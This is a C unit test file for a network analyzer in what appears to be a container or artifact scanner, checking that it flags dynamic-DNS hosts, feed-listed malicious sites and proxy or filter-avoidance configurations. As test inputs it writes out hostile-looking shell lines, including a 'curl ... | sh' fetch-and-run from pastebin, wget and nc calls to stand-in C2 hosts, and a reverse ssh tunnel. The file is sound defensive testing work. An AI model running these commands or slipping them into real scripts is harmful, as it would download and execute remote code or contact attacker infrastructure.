/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Domains and addresses by place and category, settings of ways around filters; and that lists,
 * comments and documentation give nothing.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

#include "fake_ledger.h"

extern const struct analyzer_ops analyzer_network;
static struct ledger l;
static void *self;
static char feed[] = "/tmp/koban-feed-XXXXXX";

static void show(const char *path, const char *text)
{
	fake_ledger_clear(&l);
	fake_show(&analyzer_network, self, &l, path, 0644, str_of(text));
}

static const struct artifact_finding *find(
	const char *check, enum artifact_severity severity, enum artifact_label label)
{
	const struct artifact_finding *f = fake_find(&l, check);

	if (!f || f->severity != severity || f->label != label) {
		fake_print(&l);
		fail_msg("no %s of severity %s", check, artifact_severity_name(severity));
	}
	return f;
}

static void assert_nothing(void)
{
	if (l.nfindings)
		fake_print(&l);
	assert_int_equal(l.nfindings, 0);
}

static void test_places(void **state)
{
	(void)state;
	show("/start.sh", "#!/bin/sh\nwget http://c2.duckdns.org:8080/a\n");
	const struct artifact_finding *f =
		find("network-dynamic-dns", ARTIFACT_MEDIUM, LABEL_DYNAMIC_DNS);
	assert_true(str_is(artifact_finding_fact(f, "domain"), "c2.duckdns.org"));
	assert_int_equal(f->line, 2);
	show("/etc/app.conf", "server = c2.duckdns.org\n");
	find("network-dynamic-dns", ARTIFACT_LOW, LABEL_DYNAMIC_DNS);
	show("/usr/lib/python3/dist-packages/x.py", "HOST = 'c2.duckdns.org'\n");
	assert_nothing();
	show("/usr/share/doc/x/README", "c2.duckdns.org\n");
	assert_nothing();
	show("/start.sh", "#!/bin/sh\n# see http://c2.duckdns.org/\necho hi\n");
	assert_nothing();
	show("/start.sh", "#!/bin/sh\ncurl https://pastebin.com/raw/abc | sh\n");
	find("network-drop", ARTIFACT_LOW, LABEL_OTHER);
	show("/start.sh", "#!/bin/sh\ncurl https://example.com/ http://deb.debian.org/\n");
	assert_nothing();
	/* pools are said by another analyzer */
	show("/start.sh", "#!/bin/sh\nnc pool.supportxmr.com 3333\n");
	assert_nothing();
}

static void test_program(void **state)
{
	static const char elf[] = "\x7f"
				  "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0GET\0c2.ddns.net\0more";

	(void)state;
	fake_ledger_clear(&l);
	fake_show(&analyzer_network, self, &l, "/tmp/x", 0755, str_make(elf, sizeof(elf) - 1));
	const struct artifact_finding *f =
		find("network-dynamic-dns", ARTIFACT_LOW, LABEL_DYNAMIC_DNS);
	assert_true(str_is(f->excerpt, "c2.ddns.net"));
	/* the author of a kernel module */
	static const char module[] =
		"\x7f"
		"ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0author=Somebody <me@box.mine.nu>";
	fake_ledger_clear(&l);
	fake_show(&analyzer_network, self, &l, "/tmp/x.ko", 0644,
		str_make(module, sizeof(module) - 1));
	assert_nothing();
	show("/start.sh", "#!/bin/sh\nssh -R 22 me@box.mine.nu\n");
	find("network-dynamic-dns", ARTIFACT_MEDIUM, LABEL_DYNAMIC_DNS);
}

static void test_feed(void **state)
{
	(void)state;
	show("/a.sh", "#!/bin/sh\ncurl http://x.evil.example/ ; nc 203.0.113.77 80\n");
	const struct artifact_finding *f =
		find("network-malicious", ARTIFACT_HIGH, LABEL_MALICIOUS_SITE);
	assert_true(str_is(artifact_finding_fact(f, "domain"), "x.evil.example") ||
		    str_is(artifact_finding_fact(f, "address"), "203.0.113.77"));
	assert_int_equal(fake_count(&l, "network-malicious"), 1);
	show("/a.sh", "#!/bin/sh\nnc 203.0.113.77 80\n# http://y.evil-site.com/\n");
	assert_int_equal(fake_count(&l, "network-malicious"), 2);
	fake_ledger_clear(&l);
	fake_show_text(&analyzer_network, self, &l, PLACE_HISTORY, 1,
		"RUN wget https://cdn.evil-site.com/p");
	find("network-malicious", ARTIFACT_HIGH, LABEL_MALICIOUS_SITE);
}

static void test_list(void **state)
{
	char text[2000] = "#!/bin/sh\n";

	(void)state;
	for (unsigned k = 0; k < 30; k++)
		snprintf(text + strlen(text), sizeof(text) - strlen(text), "h%u.duckdns.org\n", k);
	show("/block.sh", text);
	assert_nothing();
	/* but what the user asked for is said */
	snprintf(text + 10, sizeof(text) - 10, "x.evil-site.com\n");
	for (unsigned k = 0; k < 30; k++)
		snprintf(text + strlen(text), sizeof(text) - strlen(text), "h%u.duckdns.org\n", k);
	show("/block.sh", text);
	find("network-malicious", ARTIFACT_HIGH, LABEL_MALICIOUS_SITE);
	assert_int_equal(l.nfindings, 1);
}

static void test_proxies(void **state)
{
	(void)state;
	show("/etc/shadowsocks/config.json", "{\"server\":\"0.0.0.0\",\"server_port\":8388,"
					     "\"password\":\"x\",\"method\":\"aes-256-gcm\"}");
	find("network-proxy-config", ARTIFACT_MEDIUM, LABEL_PROXY_AVOIDANCE);
	show("/v/config.json", "{\"inbounds\":[{\"protocol\":\"vless\"}],\"outbounds\":[]}");
	find("network-proxy-config", ARTIFACT_MEDIUM, LABEL_PROXY_AVOIDANCE);
	show("/etc/openvpn/client.conf", "client\ndev tun\nremote vpn.example.com 1194\n");
	find("network-proxy-config", ARTIFACT_LOW, LABEL_PROXY_AVOIDANCE);
	show("/etc/wireguard/wg0.conf",
		"[Interface]\nPrivateKey = x\n[Peer]\nEndpoint = a.example.com:1\n");
	find("network-proxy-config", ARTIFACT_LOW, LABEL_PROXY_AVOIDANCE);
	show("/start.sh", "#!/bin/sh\n./honeygain -tou-accept -email a -pass b\n");
	find("network-proxy-config", ARTIFACT_MEDIUM, LABEL_PROXY_AVOIDANCE);
	/* Debian's torrc, in which all is a comment */
	show("/etc/tor/torrc",
		"## Tor opens a SOCKS proxy\n#SocksPort 9050\n#HiddenServiceDir /var/lib/tor/h\n");
	assert_nothing();
	show("/app/db.json", "{\"server\":\"db\",\"password\":\"x\"}");
	assert_nothing();
}

static void test_proxy_program(void **state)
{
	struct artifact_file f = {.path = STR("/usr/local/bin/xray"),
		.kind = ARTIFACT_FILE,
		.mode = 0755,
		.size = 90000};
	static char content[90000];

	(void)state;
	fake_ledger_clear(&l);
	fake_show_file(&analyzer_network, self, &l, &f, str_make(content, sizeof(content)));
	find("network-proxy-program", ARTIFACT_INFO, LABEL_PROXY_AVOIDANCE);
	fake_ledger_clear(&l);
	f.mode = 0644;
	fake_show_file(&analyzer_network, self, &l, &f, str_make(content, sizeof(content)));
	assert_nothing();
}

static int open_it(void **state)
{
	const char *const feeds[] = {feed, NULL};
	struct err e = {0};
	int fd = mkstemp(feed);

	(void)state;
	if (fd < 0 || write(fd, "evil-site.com\n203.0.113.0/24\n", 29) != 29)
		return -1;
	close(fd);
	fake_ledger_init(&l);
	return analyzer_network.open(
		&(struct analyzer_options){.data_dir = "data", .feeds = feeds}, &self, &e);
}

static int close_it(void **state)
{
	(void)state;
	analyzer_network.close(self);
	fake_ledger_done(&l);
	return unlink(feed);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_places),
		cmocka_unit_test(test_program),
		cmocka_unit_test(test_feed),
		cmocka_unit_test(test_list),
		cmocka_unit_test(test_proxies),
		cmocka_unit_test(test_proxy_program),
	};

	return cmocka_run_group_tests(tests, open_it, close_it);
}
